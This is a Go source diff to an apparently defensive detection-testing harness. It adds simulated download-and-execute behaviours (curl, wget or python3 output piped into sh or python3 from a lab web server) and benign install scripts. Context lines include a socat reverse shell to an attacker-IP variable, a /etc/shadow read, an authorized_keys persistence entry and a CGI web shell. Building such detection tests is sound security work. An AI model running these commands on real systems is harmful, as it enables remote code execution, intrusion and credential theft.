@@ -129,6 +129,17 @@ func catalogue() []Behaviour {
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4446", Needs: []string{"socat", "ncat"},
 			Service: fmt.Sprintf("timeout 10 socat TCP:%s:4446 EXEC:/bin/sh >/dev/null 2>&1 || true", atkIP),
 			Expect:  []string{"shell-from-netcat", "shell-on-socket", "reverse-shell"}},
+		{ID: "curl-pipe-sh", Title: "script from a web server piped into sh", Class: "execution", Needs: []string{"curl"},
+			Service: fmt.Sprintf("curl -s -m 5 http://%s/install.sh | sh >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
+		// The shell is started first and waits on the pipe: the join is
+		// made on curl's exec.
+		{ID: "curl-pipe-sh-late", Title: "download piped into a shell already waiting", Class: "execution", Needs: []string{"curl"},
+			Service: fmt.Sprintf("(sleep 0.3; exec curl -s -m 5 http://%s/install.sh) | sh >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
+		{ID: "python-fetch-pipe-sh", Title: "python3 fetching a script into sh", Class: "execution", Needs: []string{"python3"},
+			Service: fmt.Sprintf(`python3 -c 'import sys, urllib.request; sys.stdout.write(urllib.request.urlopen(sys.argv[1]).read().decode())' http://%s/install.sh | sh >/dev/null`, svcIP),
+			Expect:  []string{"interpreter-runs-download"}},
+		{ID: "wget-pipe-python", Title: "script from a web server piped into python3", Class: "execution", Needs: []string{"wget", "python3"},
+			Service: fmt.Sprintf("wget -q -O- http://%s/install.py | python3 >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
 		{ID: "read-shadow", Title: "shadow file read by an unexpected program", Class: "credential-access", Falco: true,
 			Service: "cat /etc/shadow >/dev/null", Expect: []string{"credential-file-read"}},
 		{ID: "authorized-keys", Title: "key appended to authorized_keys", Class: "persistence",
@@ -610,7 +621,7 @@ func contains(list []string, s string) bool {
 }
 
 // writeServiceHost writes the service host's web server: a prefork Apache
-// on port 80 serving a page and a CGI application that runs the shell
+// on port 80 serving a page, scripts to install (install.sh, install.py) and a CGI application that runs the shell
 // command in its q parameter (the web shell an intruder leaves), readable
 // by the user its workers run as.
 func writeServiceHost(dir, docs string) error {
@@ -624,6 +635,13 @@ func writeServiceHost(dir, docs string) error {
 		}
 	}
 	if err := os.WriteFile(filepath.Join(www, "index.html"), []byte("<html><body><p>service host</p></body></html>\n"), 0o644); err != nil {
+		return err
+	}
+	// A script of the kind sites tell their users to pipe into a shell.
+	if err := os.WriteFile(filepath.Join(www, "install.sh"), []byte("#!/bin/sh\necho installing\nid\n"), 0o644); err != nil {
+		return err
+	}
+	if err := os.WriteFile(filepath.Join(www, "install.py"), []byte("import os\nprint('installing', os.getuid())\n"), 0o644); err != nil {
 		return err
 	}
 	// The application: a page, or with ?q= the web shell an intruder
